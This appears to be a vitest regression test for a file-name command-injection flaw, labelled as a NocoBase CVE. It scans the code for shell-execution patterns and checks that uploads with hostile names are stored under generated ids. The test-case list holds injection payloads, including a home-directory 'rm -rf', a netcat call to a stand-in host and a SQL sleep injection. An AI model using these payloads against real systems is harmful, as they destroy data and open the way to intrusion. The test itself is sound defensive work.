import { readFileSync, readdirSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { describe, expect, it } from 'vitest'
import { aPng } from '../support/files.ts'
import { call, db } from '../support/stack.ts'
import { send } from './world.ts'

const ROOT = fileURLToPath(new URL('../../', import.meta.url))
const sources = ['cli', 'extensions', 'schema', 'seeds', 'portal/server'].flatMap(folder => readdirSync(join(ROOT, folder), { recursive: true, encoding: 'utf8' })
  .filter(name => /\.(?:ts|mjs)$/.test(name) && !/node_modules|dist\//.test(name)).map(name => join(ROOT, folder, name)))

describe('NocoBase CVE-2026-55410: a name ends in a command of the system', () => {
  it('starts programs with lists of arguments, never through a shell', () => {
    expect(sources.length).toBeGreaterThan(200)
    const withShell = sources.filter(path => /\bexecSync\(|\bexec\(['"`]|shell:\s*(?:true|['"])|from 'node:vm'|\bnew Function\(|[^.\w]eval\(/.test(readFileSync(path, 'utf8')))

    expect(withShell).toEqual([])
  })

  it.each(['$(touch pwned).png', '`id`.png', '; rm -rf ~ ;.png', '| nc evil.example 1.png', '-rf.png', '--help.png', '\'; select pg_sleep(1); --.png'])('keeps a file called %s under a name of ours', async (name) => {
    const { body } = await send('partenaire', aPng(), { name })
    const id = String(body.data?.['id'])

    expect((await db.query('select filename_disk from directus_files where id = $1', [id])).rows).toEqual([{ filename_disk: `${id}.png` }])
    expect((await call(`/assets/${id}`, { as: 'partenaire' })).headers.get('content-disposition')).not.toMatch(/[\r\n]/)
  })
})
